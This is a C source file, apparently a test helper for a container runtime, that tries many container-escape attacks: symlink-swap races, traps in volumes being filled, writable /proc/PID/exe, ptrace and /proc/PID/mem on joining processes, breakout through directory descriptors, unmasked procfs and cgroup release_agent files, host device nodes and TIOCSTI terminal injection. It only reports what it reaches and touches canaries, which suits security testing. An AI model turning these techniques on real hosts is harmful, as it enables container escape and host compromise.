// SPDX-License-Identifier: MIT
/*
 * The hostile app: each command is one attack from inside a container, on who starts, joins or
 * shares something with it. What it gets hold of it prints as "reached ..."; it opens, and changes
 * nothing but what is named canary. Those that race print "ready" first and go on until they are
 * killed. Linked statically, leans on nothing but libc.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static void say(const char *what, const char *which)
{
	printf("%s %s\n", what, which);
	(void)fflush(stdout);
}

/* ---- races with names ---- */

/* A directory and a symlink change places as fast as the kernel lets them. */
static int cmd_swap(char **args)
{
	if (!args[0] || !args[1])
		return 2;
	printf("ready\n");
	(void)fflush(stdout);
	for (;;)
		(void)renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE);
}

/* Once the directory has something in it, put a link to elsewhere in its place. */
static void trap_directory(const char *dir, const char *name, const char *probe, const char *to)
{
	char path[256], away[256];

	(void)snprintf(path, sizeof(path), "%s/%s/%s", dir, name, probe);
	if (access(path, F_OK) < 0)
		return;
	(void)snprintf(path, sizeof(path), "%s/%s", dir, name);
	(void)snprintf(away, sizeof(away), "%s/away-%s", dir, name);
	if (rename(path, away) == 0)
		(void)symlink(to, path);
}

static void remove_all(const char *dir)
{
	char command[300];

	(void)snprintf(command, sizeof(command), "rm -rf %s/* 2>/dev/null", dir);
	(void)!system(command);
}

/*
 * A volume that is being filled from an image for somebody else: directories and a FIFO that appear
 * become links to the canary TO, so that a link or a change of mode goes there.
 */
static int cmd_fill(char **args)
{
	const char *dir = args[0], *to = args[1];
	char pipe_path[256], pipe_target[256], done[256];

	if (!dir || !to)
		return 2;
	(void)snprintf(pipe_path, sizeof(pipe_path), "%s/pipe", dir);
	(void)snprintf(pipe_target, sizeof(pipe_target), "%s/secret", to);
	(void)snprintf(done, sizeof(done), "%s/done", dir);
	remove_all(dir);
	say("ready", "");
	for (;;) {
		struct stat st;

		trap_directory(dir, "one", "secret", to);
		trap_directory(dir, "two", "link", to);
		if (lstat(pipe_path, &st) == 0 && S_ISFIFO(st.st_mode) && unlink(pipe_path) == 0)
			(void)symlink(pipe_target, pipe_path);
		if (access(done, F_OK) == 0)
			remove_all(dir);
	}
}

/* ---- processes that join ---- */

static bool is_ours(const char *link)
{
	struct stat st;

	return link[0] == '/' && stat(link, &st) == 0;
}

/* The program of a process that is not of this container's files: can it be written? */
static void look_at_program(const char *pid)
{
	char path[64], link[256] = "", text[400];
	ssize_t n;
	int fd, writable;

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	/* of what was opened: by now it may execute another one, of this container's */
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, link, sizeof(link) - 1);
	if (n > 0 && !is_ours(link)) {
		for (int i = 0; i < 2000; i++) {
			writable = open(path, O_WRONLY | O_CLOEXEC);
			if (writable < 0)
				continue;
			if (fcntl(writable, F_GET_SEALS) >= 0 &&
			    (fcntl(writable, F_GET_SEALS) & F_SEAL_WRITE)) {
				(void)close(writable); /* a sealed copy in memory */
				break;
			}
			(void)snprintf(text, sizeof(text), "program %s for writing", link);
			say("reached", text);
			(void)close(writable);
			break;
		}
		say("saw", link);
	}
	(void)close(fd);
}

/* A directory that is open in another process and is not of this root is a way out. */
static void look_at_directory(const char *pid, const char *name)
{
	char path[128], link[256] = "", text[400];
	struct stat st, same;
	ssize_t n;

	(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	if (stat(path, &st) < 0 || !S_ISDIR(st.st_mode))
		return;
	n = readlink(path, link, sizeof(link) - 1);
	if (n <= 0) /* it has ended */
		return;
	if (stat(link, &same) == 0 && same.st_ino == st.st_ino && same.st_dev == st.st_dev)
		return;
	(void)snprintf(text, sizeof(text), "directory %s (%s of %s)", link, name, pid);
	say("reached", text);
}

static void look_at_descriptors(const char *pid)
{
	char path[64], name[300];
	struct dirent *e;
	DIR *d;

	(void)snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	d = opendir(path);
	while (d && (e = readdir(d))) {
		(void)snprintf(name, sizeof(name), "fd/%s", e->d_name);
		if (e->d_name[0] != '.')
			look_at_directory(pid, name);
	}
	if (d)
		(void)closedir(d);
}

/* A line of /proc/PID/status. */
static unsigned long long status_of(const char *pid, const char *field)
{
	char path[64], line[256];
	unsigned long long value = 0;
	FILE *f;

	(void)snprintf(path, sizeof(path), "/proc/%s/status", pid);
	f = fopen(path, "re");
	while (f && fgets(line, sizeof(line), f))
		if (strncmp(line, field, strlen(field)) == 0)
			value = strtoull(line + strlen(field), NULL, 16);
	if (f)
		(void)fclose(f);
	return value;
}

/*
 * Not yet confined as we are: whoever has such a process has its rights. One that is gone has none:
 * its size, which is asked last, tells.
 */
static bool is_more_powerful(const char *pid)
{
	unsigned long long more = status_of(pid, "CapPrm:") & ~status_of("self", "CapPrm:");
	unsigned long long filter = status_of(pid, "Seccomp:");

	return status_of(pid, "VmSize:") && (more || filter < status_of("self", "Seccomp:"));
}

/* By a child, whose end lets it go again. */
static void seize(const char *pid)
{
	pid_t child = fork();

	if (child > 0)
		(void)waitpid(child, NULL, 0);
	if (child != 0)
		return;
	if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0 && is_more_powerful(pid))
		say("reached", "a process that joins, by ptrace");
	_exit(0);
}

static void look_at_memory(const char *pid)
{
	char path[64];
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return;
	if (is_more_powerful(pid))
		say("reached", "the memory of a process that joins");
	(void)close(fd);
}

static __attribute__((noreturn)) void watch(void (*look)(const char *pid))
{
	char self[16];

	(void)snprintf(self, sizeof(self), "%d", getpid());
	say("ready", "");
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d)))
			if (e->d_name[0] >= '0' && e->d_name[0] <= '9' &&
			    strcmp(e->d_name, self) != 0)
				look(e->d_name);
		if (d)
			(void)closedir(d);
	}
}

static int cmd_exe(char **args)
{
	(void)args;
	watch(look_at_program);
}

static void look_at_all(const char *pid)
{
	look_at_memory(pid);
	look_at_directory(pid, "cwd");
	look_at_directory(pid, "root");
	look_at_descriptors(pid);
	seize(pid);
}

static int cmd_snoop(char **args)
{
	(void)args;
	watch(look_at_all);
}

/* ---- what a start leaves ---- */

/* From the working directory up, and from every descriptor: is the canary (a path of the host)
 * there? */
static int cmd_escape(char **args)
{
	char path[512];

	if (!args[0])
		return 2;
	(void)snprintf(path, sizeof(path), "../../../../../../../../../..%s", args[0]);
	for (int fd = -1; fd < 64; fd++) {
		int at = fd < 0 ? AT_FDCWD : fd;

		if (faccessat(at, path, F_OK, 0) == 0)
			say("reached", fd < 0 ? "the host by the working directory"
					      : "the host by a descriptor");
	}
	if (access(args[0], F_OK) == 0)
		say("reached", "the host by its own path");
	say("ran", "");
	return 0;
}

/* Every procfs and sysfs that is mounted anywhere: what of it can be read or written that must not?
 */
static int cmd_masks(char **args)
{
	static const char *const read_only[] = {"sys/kernel/core_pattern", "sysrq-trigger",
						"sys/kernel/modprobe"};
	static const char *const hidden[] = {"kcore", "keys", "timer_list", "kallsyms", "kmsg"};
	char line[1024], path[600], place[256], type[32];
	FILE *f = fopen("/proc/self/mounts", "re");

	if (!f) /* what is at /proc is no procfs: look where it may have gone */
		f = fopen("/link/self/mounts", "re");
	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%*s %255s %31s", place, type) != 2 || strcmp(type, "proc") != 0)
			continue;
		for (size_t i = 0; i < sizeof(read_only) / sizeof(read_only[0]); i++) {
			(void)snprintf(path, sizeof(path), "%s/%s", place, read_only[i]);
			if (open(path, O_WRONLY | O_CLOEXEC) >= 0)
				say("reached", path);
		}
		for (size_t i = 0; i < sizeof(hidden) / sizeof(hidden[0]); i++) {
			char byte;
			int fd;

			(void)snprintf(path, sizeof(path), "%s/%s", place, hidden[i]);
			fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
			if (fd >= 0 && read(fd, &byte, 1) > 0)
				say("reached", path);
			if (fd >= 0)
				(void)close(fd);
		}
	}
	return args[0] ? cmd_escape(args) : 0;
}

/* ---- the kernel's own ways out ---- */

/* Write back what is there already: nothing changes where it works. */
static void write_back(const char *path)
{
	char text[4096];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text));

	if (fd >= 0)
		(void)close(fd);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0 && n >= 0 && write(fd, text, (size_t)n) == n)
		say("reached", path);
	if (fd >= 0)
		(void)close(fd);
}

static int cmd_kernel(char **args)
{
	static const char *const files[] = {
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
		"/proc/sys/kernel/hotplug",	 "/proc/sys/fs/suid_dumpable",
		"/proc/sys/vm/panic_on_oom",	 "/proc/sys/kernel/poweroff_cmd",
		"/sys/kernel/uevent_helper",	 "/sys/power/state",
		"/sys/fs/cgroup/release_agent",	 "/sys/fs/cgroup/cgroup.procs",
		"/sys/kernel/mm/ksm/run",	 "/sys/kernel/mm/transparent_hugepage/enabled"};
	static const char *const controllers[] = {"memory", "rdma", "pids", "devices",
						  "none,name=systemd"};

	(void)args;
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
		write_back(files[i]);
	(void)mkdir("/tmp/way", 0755);
	for (size_t i = 0; i < sizeof(controllers) / sizeof(controllers[0]); i++) {
		if (mount("x", "/tmp/way", "cgroup", 0, controllers[i]) < 0)
			continue;
		say("reached", "a cgroup v1 hierarchy");
		write_back("/tmp/way/release_agent");
		(void)umount2("/tmp/way", MNT_DETACH);
	}
	if (mount("proc", "/tmp/way", "proc", 0, NULL) == 0)
		say("reached", "a procfs of its own");
	if (open("/dev/mem", O_RDONLY | O_CLOEXEC) >= 0 ||
	    open("/dev/kmsg", O_RDONLY | O_CLOEXEC) >= 0 ||
	    (mknod("/tmp/disk", S_IFBLK | 0600, 8 << 8) == 0 &&
	     open("/tmp/disk", O_RDONLY | O_CLOEXEC) >= 0))
		say("reached", "a device of the host");
	return 0;
}

/* Type into the terminal that it was given. */
static int cmd_type(char **args)
{
	static const unsigned long ways[] = {TIOCSTI, TIOCSTI | 1UL << 32, TIOCLINUX};

	(void)args;
	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++)
		if (syscall(SYS_ioctl, STDIN_FILENO, ways[i], "\n") == 0)
			say("reached", "the input of the terminal");
	say("typed", "");
	return 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int (*run)(char **args);
	} commands[] = {
		{"swap", cmd_swap},	{"fill", cmd_fill},	{"exe", cmd_exe},
		{"snoop", cmd_snoop},	{"escape", cmd_escape}, {"masks", cmd_masks},
		{"kernel", cmd_kernel}, {"type", cmd_type},
	};

	for (size_t i = 0; argc > 1 && i < sizeof(commands) / sizeof(commands[0]); i++)
		if (strcmp(argv[1], commands[i].name) == 0)
			return commands[i].run(argv + 2);
	return 2;
}
